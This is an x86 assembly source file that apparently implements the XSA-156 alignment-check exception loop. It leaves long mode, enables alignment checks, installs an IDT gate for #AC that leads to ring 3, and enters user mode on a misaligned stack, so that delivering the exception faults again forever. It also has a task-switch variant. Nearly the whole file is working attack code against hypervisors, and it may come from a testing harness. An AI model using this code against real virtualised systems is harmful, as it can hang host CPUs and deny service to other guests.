; SPDX-License-Identifier: BSD-2-Clause
; The #AC loop: 32-bit code at CPL 3 with alignment checks, an IDT whose gate for #AC leads to CPL 3, and a misaligned stack.
; Pushing the frame is misaligned too and raises #AC again, for good (XSA-156). Long mode has no such gates, so it is left first;
; nor has it task switches: attack_end_task leaves it to do one.

global	attack_end_ac
global	attack_end_task

CODE0	equ	0x08
DATA0	equ	0x10
CODE3	equ	0x1b
DATA3	equ	0x23
TSS	equ	0x28
CR0_AM	equ	1 << 18
AC_FLAG	equ	1 << 18

section .text
bits 64
attack_end_task:
	mov	eax, tss
	mov	[gdt_tss + 2], ax
	shr	eax, 16
	mov	[gdt_tss + 4], al
	mov	byte [task], 1
attack_end_ac:
	mov	dword [idt + 17 * 8], 0		; filled here: the linker cannot split an address
	mov	eax, handler
	mov	word [idt + 17 * 8], ax
	mov	word [idt + 17 * 8 + 2], CODE3
	mov	word [idt + 17 * 8 + 4], 0xee00	; 32-bit interrupt gate, DPL 3
	shr	eax, 16
	mov	word [idt + 17 * 8 + 6], ax
	lgdt	[gdt_pointer]
	lidt	[idt_pointer]
	push	CODE0
	push	compat
	retfq

bits 32
compat:
	mov	eax, cr0
	and	eax, 0x7fffffff			; PG off: out of long mode
	or	eax, CR0_AM
	mov	cr0, eax
	mov	ecx, 0xc0000080
	rdmsr
	and	eax, ~(1 << 8)
	wrmsr
	cmp	byte [task], 0
	jne	switch
	mov	eax, DATA3
	mov	ds, eax
	mov	es, eax
	push	DATA3
	push	stack_end - 63			; misaligned
	push	AC_FLAG | 2
	push	CODE3
	push	user
	iretd
user:	mov	eax, [stack_end - 126]
handler:
	jmp	handler
switch:	jmp	TSS:0

section .data
align 8
gdt:	dq	0
	dq	0x00cf9b000000ffff
	dq	0x00cf93000000ffff
	dq	0x00cffb000000ffff
	dq	0x00cff3000000ffff
gdt_tss:
	dq	0x0000890000000067	; available, 104 bytes
gdt_pointer:
	dw	$ - gdt - 1
	dq	gdt
idt_pointer:
	dw	18 * 8 - 1
	dq	idt

section .bss nobits alloc noexec write align=64
idt:	resb	18 * 8
	resb	112				; to a multiple of 64
	resb	256
stack_end:
tss:	resb	104
task:	resb	1
